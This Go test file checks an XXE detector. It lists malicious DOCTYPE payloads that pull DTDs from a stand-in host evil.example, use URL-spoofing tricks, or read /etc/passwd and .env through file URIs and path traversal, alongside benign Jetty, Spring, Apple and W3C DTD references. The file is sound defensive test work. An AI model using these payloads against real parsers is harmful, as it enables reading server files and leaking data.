package signature_test

import "testing"

// TestXXEExternalDTD: a DOCTYPE that makes the parser fetch a DTD from a
// host the sender may own, or read a local file, stays refused; one that
// names a DTD only a standards body or a framework's publisher serves, or
// a bare *.dtd kept beside the document, is what configuration files,
// property lists and SVG carry (Jetty, Spring, Hibernate, log4j, Apple,
// the W3C), and is not.
func TestXXEExternalDTD(t *testing.T) {
	xml := "body:application/xml"
	checkFamily(t, "xxe", []familyCase{
		{xml, `<!DOCTYPE foo SYSTEM "http://evil.example/evil.dtd"><foo/>`, 0.99},
		{xml, `<!DOCTYPE Configure PUBLIC "-//Jetty//Configure//EN" "http://jetty.org.evil.example/configure.dtd"><Configure/>`, 0.99},
		{xml, `<!DOCTYPE Configure PUBLIC "-//Jetty//Configure//EN" "http://evil-jetty.org/configure.dtd"><Configure/>`, 0.99},
		{xml, `<!DOCTYPE Configure PUBLIC "-//Jetty//Configure//EN" "http://jetty.org@evil.example/configure.dtd"><Configure/>`, 0.99},
		{xml, `<!DOCTYPE Configure PUBLIC "-//Jetty//Configure//EN" "http://evil.example/?jetty.org"><Configure/>`, 0.99},
		{xml, `<!DOCTYPE Configure PUBLIC "-//Jetty//Configure//EN" "http://jetty.org%2eevil.example/x.dtd"><Configure/>`, 0.99},
		{xml, `<!DOCTYPE beans PUBLIC "-//SPRING//DTD BEAN//EN" "https://www.springframework.org:8443/x.dtd"><beans/>`, 0.99},
		{xml, `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/svg11.dtd"><svg/>`, 0.99},
		{xml, `<!DOCTYPE foo SYSTEM "file:///etc/passwd"><foo/>`, 0.99},
		{xml, `<!DOCTYPE foo SYSTEM "/etc/passwd"><foo/>`, 0.99},
		{xml, `<!DOCTYPE foo SYSTEM "../../../../etc/passwd"><foo/>`, 0.99},
		{xml, `<!DOCTYPE foo SYSTEM ".env"><foo/>`, 0.99},
		{xml, `<!DOCTYPE foo SYSTEM "passwd"><foo/>`, 0.99},
		{xml, `<!DOCTYPE foo SYSTEM "x.dtd/../../etc/passwd"><foo/>`, 0.99},
		{xml, `<!DOCTYPE foo SYSTEM "..dtd"><foo/>`, 0.99},
		{xml, `<!DOCTYPE foo SYSTEM 'jar:http://evil.example/x.jar!/x.dtd'><foo/>`, 0.99},
		{xml, `<!DOCTYPE foo PUBLIC "-//x//y"`, 0.99}, // cut where its URI would be
		{xml, `<!DOCTYPE log4j:configuration SYSTEM "log4j.dtd" [<!ENTITY % local SYSTEM "file:///etc/passwd"> %local;]><x/>`, 0.99},
		{xml, `<!DOCTYPE Configure PUBLIC "-//Jetty//Configure//EN" "https://jetty.org/configure_10_0.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd">]><Configure>&x;</Configure>`, 0.99},
	}, []familyCase{
		{xml, `<?xml version="1.0"?><!DOCTYPE Configure PUBLIC "-//Jetty//Configure//EN" "https://jetty.org/configure_10_0.dtd"><Configure id="Server" class="org.eclipse.jetty.server.Server"></Configure>`, 0},
		{xml, `<!DOCTYPE Configure PUBLIC "-//Jetty//Configure//EN" "https://www.eclipse.org/jetty/configure_10_0.dtd"><Configure/>`, 0},
		{xml, `<!DOCTYPE beans PUBLIC "-//SPRING//DTD BEAN//EN" "http://www.springframework.org/dtd/spring-beans.dtd"><beans></beans>`, 0},
		{xml, `<!DOCTYPE hibernate-mapping PUBLIC "-//Hibernate/Hibernate Mapping DTD 3.0//EN" "http://hibernate.sourceforge.net/hibernate-mapping-3.0.dtd"><hibernate-mapping/>`, 0},
		{xml, `<!DOCTYPE mapper PUBLIC "-//mybatis.org//DTD Mapper 3.0//EN" "https://mybatis.org/dtd/mybatis-3-mapper.dtd"><mapper namespace="x"></mapper>`, 0},
		{xml, `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict><key>Label</key><string>x</string></dict></plist>`, 0},
		{xml, `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>`, 0},
		{xml, `<!DOCTYPE log4j:configuration SYSTEM "log4j.dtd"><log4j:configuration/>`, 0},
		{xml, `<!DOCTYPE feature SYSTEM "gdb-target.dtd"><feature name="org.gnu.gdb.i386.core"></feature>`, 0},
		{xml, `<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN"><html></html>`, 0},
		{xml, `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "xhtml1-strict.dtd"><html/>`, 0},
	}, 0.9)
}
